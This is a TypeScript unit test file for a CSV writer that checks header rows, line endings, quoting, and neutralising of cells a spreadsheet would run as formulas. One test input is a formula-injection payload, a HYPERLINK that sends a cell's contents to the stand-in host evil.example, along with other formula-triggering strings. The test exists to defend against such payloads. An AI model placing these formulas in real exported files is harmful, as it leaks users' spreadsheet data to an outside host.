import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { neutraliseCell, toCsv } from '@/lib/csv-write'
import type { Column } from '@/lib/open-data/datasets'

const columns: Column[] = [
  { key: 'name', type: 'string', description: '' },
  { key: 'amount_pence', type: 'integer', description: '' },
  { key: 'is_demo', type: 'boolean', description: '' },
  { key: 'note', type: 'string', description: '', nullable: true },
]

describe('toCsv', () => {
  it('writes a header row and CRLF line ends', () => {
    expect(toCsv([{ name: 'Hastings', amount_pence: 125000000, is_demo: false, note: null }], columns)).toBe(
      'name,amount_pence,is_demo,note\r\nHastings,125000000,false,\r\n',
    )
  })

  it('quotes commas, quotes and line breaks so the file reads back exactly', () => {
    const row = { name: 'Fenland, East "Cambs"\nand more', amount_pence: 1, is_demo: true, note: 'é – £' }
    const csv = toCsv([row], columns)
    expect(csv).toContain('"Fenland, East ""Cambs""\nand more"')
    expect(parse(csv, { columns: true })).toEqual([{ name: row.name, amount_pence: '1', is_demo: 'true', note: 'é – £' }])
  })

  it('writes text that a spreadsheet would run as a formula as text, and leaves numbers as numbers', () => {
    const attack = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    const rows = [
      { name: attack, amount_pence: -250, is_demo: false, note: '+44 1424 000000' },
      { name: '@SUM(A1:A9)', amount_pence: 0, is_demo: false, note: '-3.5' },
      { name: '\tTabbed', amount_pence: 0, is_demo: false, note: '\r=1+1' },
      { name: 'Safe = fine', amount_pence: 0, is_demo: false, note: '-' },
    ]
    const read = parse(toCsv(rows, columns), { columns: true }) as Record<string, string>[]
    expect(read.map((r) => [r.name, r.amount_pence, r.note])).toEqual([
      [`'${attack}`, '-250', "'+44 1424 000000"],
      ["'@SUM(A1:A9)", '0', '-3.5'],
      ["'\tTabbed", '0', "'\r=1+1"],
      ['Safe = fine', '0', "'-"],
    ])
    expect(neutraliseCell('-12')).toBe('-12')
    expect(neutraliseCell('+7.25')).toBe('+7.25')
    expect(neutraliseCell('-12abc')).toBe("'-12abc")
  })
})
